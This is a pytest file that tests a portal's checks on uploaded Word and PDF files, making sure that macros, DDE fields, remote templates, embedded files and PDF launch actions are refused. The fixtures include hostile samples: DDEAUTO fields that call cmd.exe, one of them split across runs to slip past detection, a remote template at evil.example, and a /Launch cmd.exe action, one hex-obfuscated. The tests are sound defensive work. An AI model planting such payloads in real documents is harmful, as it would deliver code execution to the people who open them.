"""Documents are judged by what they hold: macros, fields, templates, actions and files inside."""

from __future__ import annotations

import zlib
from collections.abc import Callable

import pytest

from portal.domain.files.documents import SCRIPT_PDF_NOTE
from portal.domain.files.kinds import FileKind, FileProblem
from tests.domain.test_files import PDF, WORD_PARTS, judged, refused, zipped

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships(kind: str, target: str, mode: str = "") -> bytes:
    where = f' TargetMode="{mode}"' if mode else ""
    return (
        '<?xml version="1.0"?><Relationships>'
        f'<Relationship Id="rId1" Type="{_REL}/{kind}" Target="{target}"{where}/></Relationships>'
    ).encode()


def word(**changes: bytes) -> bytes:
    names = {"document": "word/document.xml", "rels": "word/_rels/document.xml.rels"}
    return zipped({**WORD_PARTS, **{names.get(name, name): part for name, part in changes.items()}})


def test_a_document_of_word_on_the_web_has_its_main_part_under_another_name() -> None:
    parts = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": relationships("officeDocument", "/word/document2.xml"),
        "word/document2.xml": b"<document/>",
    }
    assert judged(zipped(parts), "plan.docx").kind is FileKind.DOCX


def test_the_main_part_is_found_behind_other_relations() -> None:
    rels = relationships("extended-properties", "docProps/app.xml").replace(
        b"</Relationships>",
        relationships("officeDocument", "word/document.xml").partition(b"<Relationships>")[2],
    )
    assert judged(zipped({**WORD_PARTS, "_rels/.rels": rels}), "plan.docx").kind is FileKind.DOCX


def test_a_package_that_names_no_document_is_none_of_word() -> None:
    parts = {**WORD_PARTS, "_rels/.rels": relationships("extended-properties", "docProps/app.xml")}
    assert refused(zipped(parts), "plan.docx").problem is FileProblem.NOT_WHAT_IT_SAYS


def test_a_document_whose_parts_have_the_types_of_word_is_taken() -> None:
    types = (
        b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    content = zipped({**WORD_PARTS, "[Content_Types].xml": types})
    assert judged(content, "plan.docx").kind is FileKind.DOCX


def test_a_tag_that_never_ends_is_given_up() -> None:
    endless = b"<w:document>" + b"x" * (1024 * 1024 + 1)
    assert refused(word(document=endless), "plan.docx").problem is FileProblem.DAMAGED


def test_a_workbook_is_not_told_that_it_says_something() -> None:
    parts = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": relationships("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": b"<workbook/>",
    }
    assert refused(zipped(parts), "staff.xlsx").problem is FileProblem.NOT_ACCEPTED


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{mark}"/></w:r>' for mark in ("begin", "end"))
    return f"<w:document>{begin}{runs}{end}</w:document>".encode()


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (
            word(rels=relationships("attachedTemplate", "https://evil.example/a.dotm", "External")),
            FileProblem.REMOTE_TEMPLATE,
        ),
        (
            word(rels=relationships("attachedTemplate", r"\\\\evil\\share\\a.dotm", "External")),
            FileProblem.REMOTE_TEMPLATE,
        ),
        (
            word(rels=relationships("oleObject", "file:///c:/a.xlsx", "External")),
            FileProblem.EXTERNAL_OBJECT,
        ),
        (word(document=field("DDEAUTO c:\\\\cmd.exe")), FileProblem.HAS_DDE),
        (word(document=field(" DD", "E", "AUTO cmd")), FileProblem.HAS_DDE),
        (word(document=b'<w:fldSimple w:instr=" DDE excel"/>'), FileProblem.HAS_DDE),
        (
            zipped(
                {
                    **WORD_PARTS,
                    "[Content_Types].xml": b'<Types><Override PartName="/word/x.bin" '
                    b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                    "word/x.bin": b"x",
                }
            ),
            FileProblem.HAS_MACROS,
        ),
        (word(rels=relationships("vbaProject", "x.bin")), FileProblem.HAS_MACROS),
    ],
)
def test_a_word_document_that_fetches_or_starts_something_is_refused(
    content: bytes, problem: FileProblem
) -> None:
    assert refused(content, "plan.docx").problem is problem


@pytest.mark.parametrize(
    "content",
    [
        word(document=field(' HYPERLINK "https://school.example/dde" ')),
        word(document=b"<w:t>DDE is an old way</w:t>"),
        word(document=b'<w:fldSimple w:instr=" PAGE "/>'),
        word(
            document=field(" PAGE ").replace(
                b'<w:r><w:fldChar w:fldCharType="end"/>',
                b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>3</w:t></w:r>'
                b'<w:r><w:fldChar w:fldCharType="end"/>',
            )
        ),
        word(rels=relationships("hyperlink", "https://school.example/", "External")),
        word(rels=relationships("attachedTemplate", "file:///C:/Office/Letter.dotx", "External")),
    ],
)
def test_a_link_or_a_template_of_ones_own_is_no_harm(content: bytes) -> None:
    assert judged(content, "plan.docx").kind is FileKind.DOCX


@pytest.mark.parametrize("before", [b"\r\n", b"x" * 1024])
def test_a_pdf_may_have_something_before_its_header(before: bytes) -> None:
    assert judged(before + PDF, "policy.pdf").kind is FileKind.PDF


def test_a_pdf_header_further_in_is_none() -> None:
    assert refused(b"x" * 1025 + PDF, "policy.pdf").problem is FileProblem.NOT_WHAT_IT_SAYS


def pdf_with(words: bytes) -> bytes:
    return PDF.replace(b"<<>>", b"<<" + words + b">>")


def object_stream(words: bytes) -> bytes:
    packed = zlib.compress(words)
    return PDF.replace(
        b"<<>>\nendobj", b"<</Type/ObjStm/Filter/FlateDecode>>\nstream\n" + packed + b"\nendstream"
    )


@pytest.mark.parametrize("wrap", [pdf_with, object_stream])
@pytest.mark.parametrize(
    ("words", "problem"),
    [
        (b"/S /Launch /F (cmd.exe)", FileProblem.LAUNCHES),
        (b"/S /L#61unch", FileProblem.LAUNCHES),
        (b"/Type /EmbeddedFile", FileProblem.HAS_FILES_INSIDE),
        (b"/Names <</EmbeddedFiles 3 0 R>>", FileProblem.HAS_FILES_INSIDE),
    ],
)
def test_a_pdf_that_starts_something_or_holds_files_is_refused(
    wrap: Callable[[bytes], bytes], words: bytes, problem: FileProblem
) -> None:
    assert refused(wrap(words), "policy.pdf").problem is problem


@pytest.mark.parametrize(
    "content",
    [
        pdf_with(b"/Type /ObjStm"),
        PDF.replace(b"<<>>\nendobj", b"<</Type/ObjStm>>\nstream\nnot packed\nendstream"),
    ],
)
def test_an_object_stream_that_no_reader_can_open_is_no_harm(content: bytes) -> None:
    assert judged(content, "policy.pdf").note == ""


def test_a_pdf_of_object_streams_without_end_is_refused() -> None:
    content = pdf_with(b"/ObjStm " * 10_001)
    assert refused(content, "policy.pdf").problem is FileProblem.DAMAGED


@pytest.mark.parametrize("wrap", [pdf_with, object_stream])
def test_javascript_in_a_pdf_is_noted(wrap: Callable[[bytes], bytes]) -> None:
    assert judged(wrap(b"/S /JavaScript /JS (x)"), "policy.pdf").note == SCRIPT_PDF_NOTE
